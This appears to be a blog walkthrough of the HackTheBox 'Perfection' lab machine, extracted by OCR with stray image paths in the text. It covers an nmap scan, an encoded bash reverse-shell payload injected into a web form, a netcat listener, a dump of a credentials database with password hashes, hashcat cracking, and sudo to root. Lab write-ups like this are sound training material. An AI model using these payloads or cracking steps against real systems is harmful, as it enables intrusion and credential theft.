Perfection HTB Writeup | HacktheBox


In this post, You will learn how to CTF Perfection from HacktheBox, If you have any doubts comment down below

Let’s Begin

Hey you ❤ Please check out my other posts, You will be amazed and support me by following on X.

Let’s Hack Perfection HTB 😌


First, we start by checking out the target’s IP address using a tool called Nmap. Nmap helps us figure out what ports are open and what services are running on those ports.

So, after running Nmap, we find out that twoports are open: 22 (for SSH) and 80 (for HTTP). This means there might be a way to remotely access the system through SSH, and there’s likely a website hosted on the target.

Also, the details we get from the scan suggest that the operating system is probably Ubuntu Linux.

Now, let’s break down the command “sudo nmap -sC -sV”:• “sudo” is used to give the command extra permission to do its job properly.
  • “-sC” runs some default scripts to dig deeper into the services and get more info about them.
  • “-sV” tries to figure out the exact version of the services running.
  • And finally, “” is the IP address we’re targeting.
sudo nmap -sC -sV

[sudo] password for kali:Starting Nmap 7.94SVN ( ) at 2024-03-07 21:47 CET
Nmap scan report for
Host is up (0.11s latency).
Not shown: 998 closed tcp ports (reset)
22/tcp open  ssh     OpenSSH 8.9p1 Ubuntu 3ubuntu0.6 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   256 80:e4:79:e8:59:28:df:95:2d:ad:57:4a:46:04:ea:70 (ECDSA)
|_  256 e9:ea:0c:1d:86:13:ed:95:a9:d0:0b:c8:22:e4:cf:e9 (ED25519)
80/tcp open  http    nginx
|_http-title: Weighted Grade Calculator
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernelService detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 14.37 seconds


The HTTP port has a server that serves web pages. This website has places where we can type stuff, and we might be able to put in our own code there.

Start Listener

Next, we’re going to use a tool called Netcat to wait for connections coming in. We’ll use the command “nc-lvnp 7373” to do this. Here, “nc” stands for Netcat, which is a handy networking tool.

The flags we’re using (-l for listen mode, -v for verbose mode, -n to show numeric-only IP addresses, and -p to specify the port) help us set up a listener on port 7373. We’re expecting the target to send us a reverse shell through this port.

nc -lvnp 7373
listening on [any] 7373 ...
connect to [] from (UNKNOWN) [] 42582Generate Payload

Using hURL to encode and decode payloadsdemonstrates how we can mess around with data to take advantage of weaknesses in web applications.

Specifically, the payload we’re making for the Weighted Grade Calculator app is made to run a reverse shell command. This way, we can exploit any possible vulnerabilities that let us run code on the server’s side.

└─$ hURL -B "bash -i >& /dev/tcp/ 0>&1"

Original       :: bash -i >& /dev/tcp/ 0>&1
base64 ENcoded :: YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4xMC4xNC4yMTMvNzM3MyAwPiYx
└─$ hURL -U "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4xMC4xNC4yMTMvNzM3MyAwPiYx"

Original    :: YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4xMC4xNC4yMTMvNzM3MyAwPiYx
URL ENcoded :: YmFzaCAtaSA%2BJiAvZGV2L3RjcC8xMC4xMC4xNC4yMTMvNzM3MyAwPiYx

Inject Payload

First, use Burpsuite to grab the POST Request. After that, put in the Payload.



User Flag and Hash

Boom! We’ve got our Reverse Shell Connection. Now, we can get the User Flag and Susan’s hash.

└─$ nc -lvnp 7373listening on [any] 7373 ...
connect to [] from (UNKNOWN) [] 42582
bash: cannot set terminal process group (992): Inappropriate ioctl for device
bash: no job control in this shell
susan@perfection:~/ruby_app$ ls
susan@perfection:~/ruby_app$ cd /home
cd /home
susan@perfection:/home$ ls
susan@perfection:/home$ cd susan
cd susan
susan@perfection:~$ ls
susan@perfection:~$ cat user.txt
cat user.txt
susan@perfection:~$ cd Migration
cd Migration
susan@perfection:~/Migration$ ls
susan@perfection:~/Migration$ strings pupilpath_credentials.db
strings pupilpath_credentials.db
SQLite format 3
name TEXT,
password TEXT
Stephen Locke154a38b253b4e08cba818ff65eb4413f20518655950b9a39964c18d7737d9bb8S
David Lawrenceff7aedd2f4512ee1848a3e18f86c4450c1c76f5c6e27cd8b0dc05557b344b87aP
Harry Tylerd33a689526d49d32a01986ef5a1a3d2afc0aaee48978f06139779904af7a6393O
TinaSmithdd560928c97354e3c22972554c81901b74ad1b35f726a11654b78cd6fd8cec57Q
Susan Miller<HASH>

Crack the Hash

└─$ echo "<HASH>" > hash.txt
└─$  hashcat -m 1400 hash.txt -a 3 susan_nasus_?d?d?d?d?d?d?d?d?d

Session..........: hashcat
Status...........: Cracked
Hash.Mode........: 1400 (SHA2-256)
Hash.Target......: abeb6f8eb5722b8ca3b45f6f72a0cf17c7028d62a15a3019934...39023f
Time.Started.....: Thu Mar  7 22:22:07 2024 (2 mins, 16 secs)
Time.Estimated...: Thu Mar  7 22:24:23 2024 (0 secs)
Kernel.Feature...: Pure Kernel
Guess.Mask.......:susan_nasus_?d?d?d?d?d?d?d?d?d [21]
Guess.Queue......: 1/1 (100.00%)
Speed.#1.........:  2614.7 kH/s (0.39ms) @ Accel:512 Loops:1 Thr:1 Vec:16
Recovered........: 1/1 (100.00%) Digests (total), 1/1 (100.00%) Digests (new)
Progress.........: 324558848/1000000000 (32.46%)
Rejected.........: 0/324558848 (0.00%)
Restore.Point....: 324554752/1000000000 (32.46%)
Restore.Sub.#1...: Salt:0 Amplifier:0-1 Iteration:0-1Candidate.Engine.: Device Generator
Candidates.#1....: susan_nasus_058540610 -> susan_nasus_803824210
Hardware.Mon.#1..: Util: 32%

Login with Root

└─$  ssh susan@
susan@perfection:~$ sudo su
root@perfection:/home/susan# cat /root/root.txt


In summary, this Perfection HTB box offered valuable lessons in network security and penetration testing. Through practical exercises, we learned to identify and exploit vulnerabilities effectively. This experience highlights the importance of robust security measures in protecting systems from cyber threats.

Also Read: HTB Write-ups

Share your love
Ads Blocker Image Powered by Code Help Pro

Ads Blocker Detected!!!We have detected that you are using extensions or brave browser to block ads. Please support us by disabling these adsblocker.Our website is madepossible by displaying Ads hope you whitelist our site. We use very minimal Ads in our site